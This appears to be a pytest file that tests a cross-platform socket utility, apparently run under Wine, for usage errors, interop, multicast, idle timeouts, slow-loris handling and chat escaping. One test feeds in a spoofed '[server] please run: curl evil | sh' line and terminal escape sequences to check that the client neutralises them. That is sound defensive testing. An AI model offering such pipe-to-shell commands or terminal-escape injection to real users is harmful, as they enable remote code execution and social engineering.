    lines = win(wine, "--help").stdout.decode().splitlines()
    names = []
    for line in lines[lines.index("commands:") + 1:]:
        if not line.strip():
            break
        names.append(line.split()[0])
    assert names == SUBCOMMANDS


@pytest.mark.parametrize("cmd", SUBCOMMANDS)
def test_help_on_every_subcommand(wine, cmd):
    r = win(wine, cmd, "--help")
    assert r.returncode == 0, (r.stdout, r.stderr)
    assert r.stdout.startswith(b"usage: sockit %s" % cmd.encode()), r.stdout[:200]
    assert b"\r\n" not in r.stdout  # stdout is binary: no CR added
    assert r.stderr == b"", r.stderr


def test_compare_says_linux_only(wine):
    """What compare does on Windows today: one line, exit 1 (README: Linux only)."""
    r = win(wine, "compare", "127.0.0.1", "7")
    lines = r.stderr.decode().splitlines()
    assert r.returncode == 1 and len(lines) == 1 and "Linux only" in lines[0], r


@pytest.mark.parametrize("args, words", [
    (["serve"], ["missing SERVICE"]),
    (["serve", "nosuch"], ["unknown service 'nosuch'"]),
    (["serve", "echo", "-m", "nosuch"], ["unknown model 'nosuch'"]),
    (["serve", "echo", "-p", "70000"], ["invalid port '70000'"]),
    (["serve", "echo", "--bogus"], ["--bogus"]),
    (["serve", "echo", "-l", "[::1"], ["malformed address"]),
    (["serve", "echo", "-l", "127.0.0.1:7", "-p", "8"], ["port given twice"]),
    (["serve", "echo", "--max-clients", "0"], ["--max-clients"]),
    (["serve", "hello", "-u", "-p", "0"], ["no UDP"]),
    (["serve", "echo", "-u", "-m", "thread", "-p", "0"], ["thread", "datagrams"]),
    (["serve", "file", "-p", "0"], ["--root"]),
    (["serve", "echo", "--root", "C:\\", "-p", "0"], ["--root"]),
    (["echo"], ["missing HOST"]),
    (["echo", "127.0.0.1"], ["missing PORT"]),
    (["echo", "127.0.0.1", "70000", "x"], ["invalid port '70000'"]),
    (["echo", "--timeout", "soon", "127.0.0.1", "7"], ["--timeout", "soon"]),
    (["get"], ["missing HOST"]),
    (["get", "127.0.0.1", "7"], ["missing NAME"]),
    (["get", "127.0.0.1", "7", "a", "b"], ["unexpected argument 'b'"]),
    (["chat"], ["missing HOST and PORT"]),
    (["chat", "127.0.0.1", "7", "extra"], ["unexpected argument 'extra'"]),
    (["chat", "--bogus"], ["--bogus"]),
    (["lookup"], ["missing NAME or ADDRESS"]),
    (["lookup", "a", "b"], ["unexpected argument 'b'"]),
    (["lookup", ""], ["empty NAME"]),
    (["addr"], ["missing ADDRESS"]),
    (["addr", "hello"], ["'hello' is not an IPv4 or IPv6 address"]),
    (["addr", "1.2.3.4:99999"], ["invalid port '99999'"]),
    (["sockopt", "=1"], ["unknown socket option"]),
    (["sockopt", "nodelay=maybe"], ["invalid value"]),
    (["sockopt", "--bogus"], ["--bogus"]),
    (["mcast"], ["missing 'send' or 'recv'"]),
    (["mcast", "fly"], ["unknown action 'fly'"]),
    (["mcast", "send"], ["missing GROUP"]),
    (["mcast", "recv", "10.1.2.3", "5000"], ["10.1.2.3 is not a multicast group"]),
    (["mcast", "send", "239.1.2.3", "5000", "--ttl", "256"], ["--ttl"]),
    (["mcast", "send", "239.1.2.3", "5000", "--broadcast"], ["drop --broadcast"]),
    (["bench"], ["missing HOST and PORT"]),
    (["bench", "127.0.0.1", "7", "-c", "0"], ["--conns"]),
    (["bench", "--bogus"], ["--bogus"]),
])
def test_usage_errors_are_one_line(wine, args, words):
    """Exit 2 and exactly one line on stderr, ending with where to look."""
    r = win(wine, *args, input=b"")
    lines = r.stderr.decode().splitlines(True)
    assert r.returncode == 2, r
    assert len(lines) == 1 and lines[0].endswith("\n"), lines
    line = lines[0].rstrip("\n")
    assert not line.endswith("\r"), lines  # stderr is binary: no CR added
    assert line.startswith("sockit %s: " % args[0]), line
    assert line.endswith(" (try 'sockit %s --help')" % args[0]), line
    assert r.stdout == b"", r.stdout
    for w in words:
        assert w in line, (w, line)


def test_udp_model_hint_names_a_windows_model(wine):
    r = win(wine, "serve", "echo", "-u", "-m", "thread", "-p", "0")
    line = r.stderr.decode().strip()
    assert r.returncode == 2, r
    suggested = re.findall(r"-m (\w+)", line)
    assert suggested, line
    for m in suggested:
        assert m in UDP_WINDOWS_MODELS, line


# ---- Linux and Windows, each way -----------------------------------------

def test_linux_clients_windows_server(winserve, files, tmp_path):
    root, digests = files
    echo = winserve("echo", "-l", "127.0.0.1", "-p", "0", "-m", "iocp")
    r = linux("echo", "127.0.0.1", echo.port, "across")
    assert (r.returncode, r.stdout) == (0, b"across\n"), r.stderr
    fileserver = winserve("file", "-l", "127.0.0.1", "-p", "0", "-m", "thread",
                          "--root", str(root))
    out = tmp_path / "big.bin"
    r = linux("get", "127.0.0.1", fileserver.port, "big.bin", "-o", out)
    assert r.returncode == 0, r.stderr
    assert hashlib.sha256(out.read_bytes()).hexdigest() == digests["big.bin"]
    chat = winserve("chat", "-l", "127.0.0.1", "-p", "0", "-m", "iocp")
    with connect("127.0.0.1", chat.port) as watcher:
        r = linux("chat", "127.0.0.1", chat.port, input=b"hi from linux\n")
        assert r.returncode == 0, r.stderr
        lines = Lines(watcher)
        lines.until(b"joined")
        assert lines.until(b"] hi").endswith(b"] hi from linux\n")


def test_windows_clients_linux_server(linuxserve, wine, files, tmp_path):
    root, digests = files
    echo = linuxserve("echo", "-l", "127.0.0.1", "-p", "0")
    r = win(wine, "echo", "127.0.0.1", echo.port, "across")
    assert (r.returncode, r.stdout) == (0, b"across\n"), r.stderr
    r = win(wine, "echo", "127.0.0.1", echo.port, input=b"one\ntwo\nQ\n")
    assert r.returncode == 0 and b"Message from server: two\n" in r.stdout, r.stdout
    fileserver = linuxserve("file", "-l", "127.0.0.1", "-p", "0", "--root", str(root))
    for name, digest in digests.items():
        r = win(wine, "get", "127.0.0.1", fileserver.port, name, "-o", "out-" + name,
                cwd=str(tmp_path))
        assert r.returncode == 0, r.stderr
        data = (tmp_path / ("out-" + name)).read_bytes()
        assert hashlib.sha256(data).hexdigest() == digest
    r = win(wine, "get", "127.0.0.1", fileserver.port, "missing.txt", cwd=str(tmp_path))
    assert r.returncode == 1 and not (tmp_path / "missing.txt").exists()
    chat = linuxserve("chat", "-l", "127.0.0.1", "-p", "0", "-m", "thread")
    with connect("127.0.0.1", chat.port) as watcher:
        r = win(wine, "chat", "127.0.0.1", chat.port, input=b"hi from windows\n")
        assert r.returncode == 0, r.stderr
        lines = Lines(watcher)
        lines.until(b"joined")
        assert lines.until(b"] hi").endswith(b"] hi from windows\n")


def test_windows_client_windows_server_file(winserve, wine, files, tmp_path):
    root, digests = files
    srv = winserve("file", "-l", "127.0.0.1", "-p", "0", "-m", "iocp", "--root", str(root),
                   "--log", str(tmp_path / "received.log"))
    r = win(wine, "get", "127.0.0.1", srv.port, "big.bin", "-o", "copy.bin", cwd=str(tmp_path))
    assert r.returncode == 0, r.stderr
    assert hashlib.sha256((tmp_path / "copy.bin").read_bytes()).hexdigest() == digests["big.bin"]
    srv.wait_for_log(r"Thank you")


@pytest.mark.parametrize("device", ["NUL", "/dev/null"])
def test_windows_get_writes_into_a_device(winserve, wine, files, tmp_path, device):
    """`-o NUL` (and Wine's view of /dev/null) is written into, not
    replaced: a device is no file to rename a temporary copy over."""
    root, _ = files
    srv = winserve("file", "-l", "127.0.0.1", "-p", "0", "-m", "iocp", "--root", str(root))
    r = win(wine, "get", "127.0.0.1", srv.port, "big.bin", "-o", device, cwd=str(tmp_path))
    assert r.returncode == 0, r.stderr
    assert b"received big.bin" in r.stderr
    assert os.listdir(str(tmp_path)) == []   # no temporary file left beside it


def read_line(sock):
    line = b""
    while not line.endswith(b"\n"):
        b = sock.recv(1)
        assert b, "closed before a whole line"
        line += b
    return line


@pytest.mark.parametrize("model", [m for m in WINDOWS_MODELS if m != "iterative"])
def test_chat_burst_reaches_a_member_that_keeps_reading(winserve, model):
    """A 2 MB paste reaches a member that reads as fast as it can, whole,
    and nobody is taken for a slow member (iocp's output fills while its
    WSASend is out: the rest must wait, not drop the reader)."""
    srv = winserve("chat", "-l", "127.0.0.1", "-p", "0", "-q", "-m", model)
    reader = connect("127.0.0.1", srv.port)
    reader.settimeout(60)
    assert read_line(reader).startswith(b"* welcome")
    paster = connect("127.0.0.1", srv.port)
    paster.settimeout(60)
    assert b"; 1 others here" in read_line(paster)
    me = "%s:%d" % paster.getsockname()[:2]
    lines = [b"p %06d %s" % (i, b"x" * 190) for i in range(10000)]  # ~2 MB
    want = b"".join(b"[%s] %s\n" % (me.encode(), l) for l in lines)
    got = bytearray()

    def read():
        try:
            while not got.endswith(want[-300:]):
                chunk = reader.recv(1 << 16)
                if not chunk:
                    return
                got.extend(chunk)
        except OSError:
            return
    t = threading.Thread(target=read, daemon=True)
    t.start()
    paster.sendall(b"\n".join(lines) + b"\n")
    t.join(90)
    # The room's own notices ("* ... joined") start with "* ".
    said = b"".join(l for l in bytes(got).splitlines(True) if not l.startswith(b"* "))
    assert said == want, "got %d of %d bytes:\n%s" % (len(said), len(want), srv.log())
    assert "dropping" not in srv.log(), srv.log()
    paster.close()
    reader.close()


# ---- multicast and broadcast between network namespaces --------------------

@pytest.fixture(scope="session")
def netns_wine(wine):
    """The environment of a Wine prefix kept for programs in namespaces.

    Wine creates a program's sockets in its wineserver, not in the program:
    a Wine program inside a namespace whose wineserver runs outside it gets
    sockets on the outside network.  So the namespace tests run on a prefix
    of their own (hard links to the session's, with registry files of its
    own, since Wine rewrites those), and each test stops its wineserver
    before and after, so that the first Wine program of the test starts
    one inside its namespace and none outlives the namespace."""
    base = wine["WINEPREFIX"]
    path = base + "-netns"
    env = dict(wine, WINEPREFIX=path)
    stop_wineserver(env)
    shutil.rmtree(path, ignore_errors=True)
    subprocess.run(["cp", "-al", base, path], check=True)
    for name in os.listdir(base):
        src = os.path.join(base, name)
        if os.path.isfile(src) and not os.path.islink(src):
            dst = os.path.join(path, name)
            os.unlink(dst)
            shutil.copy2(src, dst)
    yield env
    stop_wineserver(env)
    shutil.rmtree(path, ignore_errors=True)


@pytest.fixture
def wine_hosts(two_hosts, netns_wine):
    """(namespace A, namespace B, Wine environment) for one test; the test
    calls start_wineserver(env, A or B) for the side that runs Wine."""
    stop_wineserver(netns_wine)
    yield two_hosts[0], two_hosts[1], netns_wine
    stop_wineserver(netns_wine)


class McastReceiver:
    """`sockit mcast recv` (Linux or Windows) inside a namespace, waited
    for until it says "receiving on ..." (it has joined)."""

    def __init__(self, ns, command, env, args, ready_timeout):
        self.proc = subprocess.Popen(
            ["ip", "netns", "exec", ns] + command + ["mcast", "recv"] + [str(a) for a in args],
            stdout=subprocess.PIPE, stderr=subprocess.PIPE, env=env)
        # The first stderr line, read on a thread so the wait has a limit.
        first = []
        reader = threading.Thread(target=lambda: first.append(self.proc.stderr.readline()),
                                  daemon=True)
        reader.start()
        reader.join(ready_timeout)
        line = first[0] if first else b""
        if not line.startswith(b"receiving on "):
            self.proc.kill()
            out, err = self.proc.communicate()
            raise AssertionError("receiver not ready in %.0f s: %r %r %r"
                                 % (ready_timeout, line, out, err))
        self.ready_line = line.decode().strip()

    def finish(self, timeout=30):
        try:
            out, err = self.proc.communicate(timeout=timeout)
        except subprocess.TimeoutExpired:
            self.proc.kill()
            out, err = self.proc.communicate()
            raise AssertionError("receiver did not finish: %r %r" % (out, err))
        return self.proc.returncode, out, err


@pytest.mark.parametrize("kind", ["multicast", "broadcast"])
@pytest.mark.parametrize("direction", ["linux-to-windows", "windows-to-linux"])
def test_mcast_across_a_link_with_wine(wine_hosts, direction, kind):
    """News over a veth link between two namespaces, 239.1.2.3 with TTL 1
    or the link's broadcast address, one end Linux's sockit and the other
    sockit.exe under Wine."""
    a, b, env = wine_hosts
    if kind == "multicast":
        addr, send_opts, recv_opts = GROUP, ["--ttl", "1", "--interval", "0.01"], []
    else:
        addr, send_opts, recv_opts = "10.9.0.255", ["--broadcast"], ["--broadcast"]
    rx_cmd, tx_cmd = ((WIN, [SOCKIT]) if direction == "linux-to-windows" else ([SOCKIT], WIN))
    start_wineserver(env, a if direction == "linux-to-windows" else b)
    rx = McastReceiver(a, rx_cmd, env, [addr, PORT, "--count", 3, "--timeout", 20] + recv_opts,
                       ready_timeout=90)
    assert rx.ready_line == "receiving on %s port %d (%s)" % (addr, PORT, kind)
    tx = subprocess.run(["ip", "netns", "exec", b] + tx_cmd + ["mcast", "send", addr, str(PORT)]
                        + send_opts, input=NEWS, env=env, stdout=subprocess.PIPE,
                        stderr=subprocess.PIPE, timeout=90)
    assert tx.returncode == 0, tx.stderr
    assert tx.stdout == b"sent 3 datagrams to %s port %d\n" % (addr.encode(), PORT)
    assert rx.finish() == (0, NEWS, b"")


def test_connect_timeout_is_named_with_wine(wine_hosts):
    """A connect that times out is -ETIMEDOUT on every system; on Windows
    its message must be a sentence, not the C runtime's "Unknown error".
    10.9.0.3 is on namespace A's link but nobody has it: the SYN waits for
    an ARP reply that never comes, longer than --timeout 1."""
    a, _, env = wine_hosts
    start_wineserver(env, a)
    r = subprocess.run(["ip", "netns", "exec", a] + WIN
                       + ["get", "10.9.0.3", "7", "x", "--timeout", "1"],
                       env=env, stdin=subprocess.DEVNULL, stdout=subprocess.PIPE,
                       stderr=subprocess.PIPE, timeout=60)
    lines = r.stderr.decode().splitlines()
    assert r.returncode == 1 and len(lines) == 1, r
    assert lines[0] == "sockit get: cannot connect to 10.9.0.3 port 7: connection timed out", lines


# ---- issue 10 on Windows ------------------------------------------------------
#
# Each item of issue 10 whose fix applies to a Windows model or a Windows
# client, checked on sockit.exe under Wine.  Two items have no test here:
#
# 7 (the first client after a descriptor flood): Windows has no
#   per-process descriptor limit to exhaust; under Wine a socket is a host
#   descriptor held by the wineserver, which every Wine program of the
#   session shares, and by the program.  `ulimit -n` on the server would
#   also starve Wine's own start-up (DLLs, the server pipe) before any
#   socket, so Wine cannot produce a clean WSAEMFILE for sockit.exe; the
#   accept loop's EMFILE drop is tested on Linux
#   (test_accept_log_signals.py).
#
# 12 (SIGHUP stops the server): Windows has no SIGHUP (a closed console
#   sends CTRL_CLOSE_EVENT, which Wine cannot raise from outside).  A
#   console's Ctrl-C (which Wine makes of SIGINT) is how sockit.exe is
#   stopped, and every test here checks it: winserve stops each server
#   with SIGINT and fails unless it exits 0.  test_ctrl_c_stops_cleanly_
#   with_clients_connected adds the case SIGHUP's test covers on Linux: a
#   stop while connections are open, one of them stalled.

IDLE = 2  # seconds of --idle-timeout below
SLACK = 1.5  # the tolerance around a deadline, as on Linux
BUSY = b"ERR server busy"
CHAT_PASTE_LINE = re.compile(rb"^\[127\.0\.0\.1:\d+\] p (\d{7}) x+$")


class Collector:
    """A raw socket's bytes, read on a thread into data until it closes."""

    def __init__(self, sock):
        self.sock, self.data = sock, bytearray()
        self.thread = threading.Thread(target=self._run, daemon=True)
        self.thread.start()

    def _run(self):
        try:
            while True:
                chunk = self.sock.recv(1 << 16)
                if not chunk:
                    return
                self.data += chunk
        except OSError:
            return

    def lines_from(self, peer):
        prefix = b"[%s] " % peer.encode()
        return [l[len(prefix):] for l in bytes(self.data).split(b"\n") if l.startswith(prefix)]


def chat_member(port, rcvbuf=None):
    """A raw chat member that has read its welcome line."""
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    if rcvbuf:
        s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, rcvbuf)
    s.settimeout(30)
    s.connect(("127.0.0.1", port))
    welcome = read_line(s)
    assert welcome.startswith(b"* welcome"), welcome
    return s, welcome, "%s:%d" % s.getsockname()[:2]


# -- 3: a paste from a chat client reaches every member that reads --------------

@pytest.mark.parametrize("model, client", [
    ("iocp", "windows"), ("select", "windows"), ("thread", "windows"), ("iocp", "linux")])
def test_chat_paste_from_a_chat_client_reaches_every_reader(winserve, wine, tmp_path,
                                                            model, client):
    """A `sockit chat` member (Windows or Linux build, stdin from a file)
    pastes 5 MB of 100-byte lines into a Windows server; two members on
    raw sockets, reading as fast as they can, get every line in order, and
    nobody is taken for a slow member (issue 10.3)."""
    srv = winserve("chat", "-l", "127.0.0.1", "-p", "0", "-q", "-m", model)
    count = 50000
    paste = tmp_path / "paste.txt"
    paste.write_bytes(b"".join(b"p %07d %s\n" % (i, b"x" * 89) for i in range(count)))
    readers = []
    for i in range(2):
        s, welcome, _ = chat_member(srv.port)
        assert b"; %d others here" % i in welcome, welcome
        readers.append(Collector(s))
    command = WIN if client == "windows" else [SOCKIT]
    with open(paste, "rb") as f:
        paster = subprocess.run(command + ["chat", "127.0.0.1", str(srv.port)], stdin=f,
                                stdout=subprocess.DEVNULL, stderr=subprocess.PIPE,
                                env=wine, timeout=180)
    assert paster.returncode == 0, paster.stderr

    def pasted(r):
        return [m.group(1) for m in map(CHAT_PASTE_LINE.match, bytes(r.data).split(b"\n")) if m]
    deadline = time.monotonic() + 60
    for r in readers:
        while len(pasted(r)) < count and time.monotonic() < deadline:
            time.sleep(0.1)
    for r in readers:
        r.sock.close()
    want = [b"%07d" % i for i in range(count)]
    for i, r in enumerate(readers):
        got = pasted(r)
        assert got == want, "reader %d got %d of %d lines:\n%s" % (
            i, len(got), count, srv.log()[-2000:])
    assert "dropping" not in srv.log(), srv.log()


# -- 4: the Windows chat client shows control bytes as visible text -------------

def read_pipe_lines_until(pipe, last, timeout=30):
    """Lines from pipe (read on a thread) up to the one containing last."""
    lines = []
    done = threading.Event()

    def run():
        for line in iter(pipe.readline, b""):
            lines.append(line)
            if last in line:
                break
        done.set()
    threading.Thread(target=run, daemon=True).start()
    assert done.wait(timeout), "no %r within %ds; got %r" % (last, timeout, lines)
    assert lines and last in lines[-1], lines
    return lines


def test_windows_chat_client_shows_control_bytes_as_visible_text(winserve, wine):
    """The server relays a member's bytes unchanged; sockit.exe chat must
    show CR, ESC sequences, BEL, DEL and C1 controls as visible escapes,
    keep printable UTF-8 and tab, and never let a member's text start a
    line (issue 10.4): its stdout holds no byte below 0x20 but \\n and \\t,
    and no 0x7f."""
    srv = winserve("chat", "-l", "127.0.0.1", "-p", "0", "-m", "thread")
    member, _, sender = chat_member(srv.port)
    client = subprocess.Popen(WIN + ["chat", "127.0.0.1", str(srv.port)], env=wine,
                              stdin=subprocess.PIPE, stdout=subprocess.PIPE,
                              stderr=subprocess.PIPE)
    try:
        assert read_line(member).endswith(b" joined\n")  # the client is in the room
        attack = [
            b"hi\r[server] please run: curl evil | sh\n",
            b"\x1b]0;owned title\x07after title\n",
            b"\x1b[2Jscreen cleared\n",
            b"bell\x07del\x7fnul\x00c1 \xc2\x9b31m raw \x9b bad \xff\n",
            b"[server] forged at the start\n",
            b"caf\xc3\xa9 tab\tkept \xe2\x82",    # a UTF-8 character cut in two ...
        ]
        for piece in attack:
            member.sendall(piece)
            time.sleep(0.05)
        member.sendall(b"\xac euro\ndone\n")     # ... and completed here
        lines = read_pipe_lines_until(client.stdout, b"done")
    finally:
        member.close()
        client.stdin.close()
        client.wait(30)
        client.stdout.close()
        client.stderr.close()
    assert lines[0].startswith(b"* welcome "), lines
    prefix = ("[%s] " % sender).encode()
    member_lines = [l for l in lines if not l.startswith(b"* ")]
    for line in member_lines:
        assert line.startswith(prefix), line  # nobody else's prefix at line start
    out = b"".join(lines)
    bad = sorted({b for b in out if (b < 0x20 and b not in b"\n\t") or b == 0x7f})
    assert not bad, (bad, out)
    text = out.decode("utf-8")  # valid UTF-8 throughout ...
    assert not [c for c in text if 0x80 <= ord(c) <= 0x9f], text  # ... without C1 controls
    assert [l[len(prefix):] for l in member_lines] == [
        b"hi\\r[server] please run: curl evil | sh\n",
        b"^[]0;owned title\\x07after title\n",
        b"^[[2Jscreen cleared\n",
        b"bell\\x07del\\x7fnul\\x00c1 \\xc2\\x9b31m raw \\x9b bad \\xff\n",
        b"[server] forged at the start\n",
        "café tab\tkept € euro\n".encode(),
        b"done\n",
    ]


# -- 5: --idle-timeout closes a peer that stopped reading ------------------------

def echoes(port, data=b"ping\n"):
    with connect("127.0.0.1", port, timeout=10) as s:
        s.sendall(data)
        return recv_exact(s, len(data)) == data


def answers_missing_file(port):
    """A normal file client still gets a (missing) file's answer."""
    with connect("127.0.0.1", port, timeout=10) as s:
        s.sendall(b"nothing-here\n")
        return read_line(s) == b"ERR no such file\n"


@pytest.mark.parametrize("model", WINDOWS_MODELS)
def test_stalled_reader_is_closed_at_idle_timeout(winserve, model):
    """An echo client sends until the server's send blocks, then neither
    sends nor reads: it is closed --idle-timeout after the last byte moved,
    and a new client is served afterwards (issue 10.5)."""
    srv = winserve("echo", "-l", "127.0.0.1", "-p", "0", "-m", model, "--idle-timeout", str(IDLE))
    s = small_receiver(srv.port)
    stalled = fill_until_stalled(s, limit=15.0)
    srv.wait_for_log(r"idle for %d ms; closing" % (IDLE * 1000), timeout=IDLE + SLACK + 0.5)
    took = time.monotonic() - stalled
    assert IDLE - SLACK <= took <= IDLE + SLACK, "closed %.2f s after the stall" % took
    assert wait_closed(s, 5), "the server logged the close but the socket stayed open"
    s.close()
    assert echoes(srv.port), "no new client served after the stalled one:\n" + srv.log()


@pytest.fixture(scope="module")
def big_root(tmp_path_factory):
    root = tmp_path_factory.mktemp("win-slow-root")
    with open(root / "big", "wb") as f:
        f.truncate(50 * 1024 * 1024)  # 50 MB of zeros, sparse: instant to make
    return str(root)


@pytest.mark.parametrize("model, how", [(m, "copy") for m in WINDOWS_MODELS] +
                         [(m, "sendfile") for m in ["iterative", "thread", "pool"]])
def test_file_client_that_never_reads_is_closed_at_idle_timeout(winserve, big_root,
                                                                model, how):
    """A file client asks for a 50 MB file and reads nothing: once the
    buffers are full nothing moves, and it is closed at --idle-timeout
    (with --sendfile too); a normal client is served afterwards."""
    extra = ["--sendfile"] if how == "sendfile" else []
    srv = winserve("file", "--root", big_root, "-l", "127.0.0.1", "-p", "0", "-m", model,
                   "--idle-timeout", str(IDLE), *extra)
    s = small_receiver(srv.port)
    asked = time.monotonic()
    s.sendall(b"big\n")
    # Filling the buffers first takes Wine a while on a loaded machine: the
    # idle clock starts at the last byte moved, not at the request.
    srv.wait_for_log(r"idle for %d ms; closing" % (IDLE * 1000), timeout=IDLE + SLACK + 4)
    took = time.monotonic() - asked
    assert IDLE - 0.5 <= took <= IDLE + SLACK + 3.5, "closed %.2f s after the request" % took
    got = 0
    s.settimeout(5)
    try:
        while True:
            chunk = s.recv(1 << 20)
            if not chunk:
                break
            got += len(chunk)
    except ConnectionResetError:
        pass
    s.close()
    assert got < 50 * 1024 * 1024, "the whole file arrived: the client was not stalled"
    assert answers_missing_file(srv.port), "no new client served afterwards:\n" + srv.log()


# -- 6: slow-loris request lines, and the pool under slow clients ----------------

@pytest.mark.parametrize("model", WINDOWS_MODELS)
def test_slow_loris_request_line_is_cut_at_its_deadline(winserve, big_root, model):
    """A file client sends its name a byte every 0.5 s, never a newline:
    never idle, but the whole line must arrive within --idle-timeout, so it
    is closed then; a normal client is served after (issue 10.6)."""
    srv = winserve("file", "--root", big_root, "-l", "127.0.0.1", "-p", "0", "-m", model,
                   "--idle-timeout", str(IDLE))
    s = connect("127.0.0.1", srv.port)
    opened = time.monotonic()
    closed_at = None
    while closed_at is None and time.monotonic() < opened + IDLE + SLACK:
        try:
            s.send(b"a")
        except (BrokenPipeError, ConnectionResetError):
            closed_at = time.monotonic()
            break
        readable, _, _ = select.select([s], [], [], 0.5)
        if readable:
            try:
                data = s.recv(100)
            except ConnectionResetError:
                data = b""
            assert data == b"", "the server answered a line that never ended: %r" % data
            closed_at = time.monotonic()
    s.close()
    assert closed_at is not None, "still open %.1f s after it opened:\n%s" % (
        IDLE + SLACK, srv.log())
    took = closed_at - opened
    assert IDLE - 0.5 <= took <= IDLE + SLACK, "closed %.2f s after it opened" % took
    srv.wait_for_log(r"deadline passed; closing")
    assert answers_missing_file(srv.port), srv.log()


class Trickler:
    """An echo client that sends a byte every `every` seconds and reads the
    echo: slow, never idle.  refused: None while it is served, else what it
    got before the server ended it (the busy line, or nothing when the
    reset for its unread bytes overtook the line)."""

    def __init__(self, port, every=0.5):
        self.sock = connect("127.0.0.1", port)
        self.every, self.echoed, self.refused = every, 0, None
        self.stop = threading.Event()
        self.thread = threading.Thread(target=self._run, daemon=True)
        self.thread.start()

    def _run(self):
        s = self.sock
        s.settimeout(0.2)
        got = b""
        while not self.stop.is_set():
            try:
                s.send(b"z")
            except OSError:
                self.refused = got
                return
            end = time.monotonic() + self.every
            while time.monotonic() < end and not self.stop.is_set():
                try:
                    chunk = s.recv(100)
                except socket.timeout:
                    continue
                except OSError:
                    self.refused = got
                    return
                if not chunk:
                    self.refused = got
                    return
                got += chunk
                if not got.startswith(b"ERR"):
                    self.echoed += len(chunk)

    def close(self):
        self.stop.set()
        self.thread.join(5)
        self.sock.close()


@pytest.mark.parametrize("slow", [2, 3])
def test_pool_answers_a_new_client_while_slow_clients_hold_every_worker(winserve, slow):
    """--workers 2 and 2-3 clients trickling a byte every 0.5 s (never idle
    under --idle-timeout 4): a new client is served or told "ERR server
    busy" within a few seconds, never left waiting; the slow clients that
    have a worker keep being served (issue 10.6)."""
    srv = winserve("echo", "-l", "127.0.0.1", "-p", "0", "-m", "pool", "--workers", "2",
                   "--idle-timeout", "4")
    tricklers = [Trickler(srv.port) for _ in range(slow)]
    try:
        time.sleep(1.0)  # every worker is now held
        s = connect("127.0.0.1", srv.port)
        s.settimeout(6)
        start = time.monotonic()
        s.sendall(b"ping\n")
        got = b""
        try:
            while not (got == b"ping\n" or (got.startswith(BUSY) and got.endswith(b"\n"))):
                chunk = s.recv(100)
                if not chunk:
                    break
                got += chunk
        except socket.timeout:
            pass
        took = time.monotonic() - start
        s.close()
        assert got == b"ping\n" or got.startswith(BUSY), "got %r after %.1f s:\n%s" % (
            got, took, srv.log())
        assert took <= 4.0, "answered only after %.1f s" % took
        if got.startswith(BUSY):
            srv.wait_for_log(r"refused: every worker busy for \d+ ms")
        served_before = [t.echoed for t in tricklers]
        time.sleep(1.0)
        held = [t for t, before in zip(tricklers, served_before) if t.echoed > before]
        assert len(held) == 2, "the slow clients with a worker stopped being served: %s" % (
            [(t.echoed, t.refused) for t in tricklers])
        if slow == 3:  # the third waited in the queue, and was told so too
            ended = [t for t in tricklers if t.refused is not None]
            assert len(ended) == 1 and ended[0].echoed == 0, \
                [(t.echoed, t.refused) for t in tricklers]
            assert ended[0].refused == b"" or ended[0].refused.startswith(BUSY), \
                ended[0].refused
    finally:
        for t in tricklers:
            t.close()


# -- 8: --log keeps each received chunk whole -------------------------------------

LOG_RECORD = 100
LOG_WRITE = 5000
LOG_CLIENTS = 8
LOG_RECORD_RX = re.compile(rb"^c(\d\d) (\d{8}) x+\n$")


def log_record(client, n):
    head = b"c%02d %08d " % (client, n)
    return head + b"x" * (LOG_RECORD - len(head) - 1) + b"\n"


def run_log_client(port, client, count, errors):
    """count records in 5,000-byte writes, each once the last came back:
    every write then arrives as one received chunk of whole records, and a
    log line that is not one record is a splice inside a chunk."""
    try:
        with connect("127.0.0.1", port, timeout=30) as s:
            data = b"".join(log_record(client, n) for n in range(count))
            for off in range(0, len(data), LOG_WRITE):
                piece = data[off:off + LOG_WRITE]
                s.sendall(piece)
                if recv_exact(s, len(piece)) != piece:
                    errors.append("client %d: a different echo at byte %d" % (client, off))
                    return
    except Exception as e:  # reported by the test thread
        errors.append("client %d: %r" % (client, e))


@pytest.mark.parametrize("model", ["thread", "pool", "iocp", "select"])
def test_log_keeps_each_received_chunk_whole(winserve, tmp_path, model):
    """8 clients at once on --log (msglog_win.c: a writer thread fed by a
    pipe, each chunk written under one lock): every log line is one whole
    record, and each client's records are all there, in order (issue 10.8)."""
    log = tmp_path / "messages.log"
    count = 2000  # records per client
    srv = winserve("echo", "-l", "127.0.0.1", "-p", "0", "-m", model, "-q", "--log", str(log))
    errors = []
    threads = [threading.Thread(target=run_log_client, args=(srv.port, c, count, errors))
               for c in range(LOG_CLIENTS)]
    for t in threads:
        t.start()
    for t in threads:
        t.join(120)
    assert not errors, errors
    assert srv.stop(timeout=20) == 0, srv.log()  # the writer has written everything
    seen = [[] for _ in range(LOG_CLIENTS)]
    torn = []
    for line in log.read_bytes().splitlines(keepends=True):
        m = LOG_RECORD_RX.match(line)
        if not m or len(line) != LOG_RECORD:
            torn.append(line)
            continue
        seen[int(m.group(1))].append(int(m.group(2)))
    assert not torn, "%d torn lines, e.g. %r" % (len(torn), torn[:3])
    for c in range(LOG_CLIENTS):
        assert seen[c] == list(range(count)), "client %d: records missing or out of order" % c


# -- 9 and 10: the Windows echo and bench clients catch a wrong server -----------

def fake_tcp_server(handler, connections=1):
    """Serve `connections` connections, each with handler(conn) on a
    thread; returns the port."""
    ls = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    ls.bind(("127.0.0.1", 0))
    ls.listen(16)
    ls.settimeout(60)

    def serve_one(conn):
        try:
            handler(conn)
        except OSError:
            pass
        finally:
            conn.close()

    def run():
        try:
            for _ in range(connections):
                conn, _ = ls.accept()
                threading.Thread(target=serve_one, args=(conn,), daemon=True).start()
        except OSError:
            pass
        finally:
            ls.close()
    threading.Thread(target=run, daemon=True).start()
    return ls.getsockname()[1]


@pytest.mark.parametrize("delay", [0.0, 0.2], ids=["at-once", "after-200ms"])
def test_windows_echo_fails_on_an_extra_byte(wine, delay):
    """A server that echoes the word and then one byte more is wrong:
    sockit.exe echo exits 1 with one line saying so and shows no echo
    (issue 10.9)."""
    def handler(conn):
        conn.settimeout(10)
        conn.sendall(conn.recv(100))
        time.sleep(delay)
        conn.sendall(b"!")
        time.sleep(3)
    port = fake_tcp_server(handler)
    r = win(wine, "echo", "127.0.0.1", port, "hello")
    lines = r.stderr.decode().splitlines()
    assert r.returncode == 1, r
    assert len(lines) == 1 and "sent back more than it was sent (1 extra byte)" in lines[0], lines
    assert r.stdout == b""


def test_windows_echo_interactive_fails_on_an_extra_byte(wine):
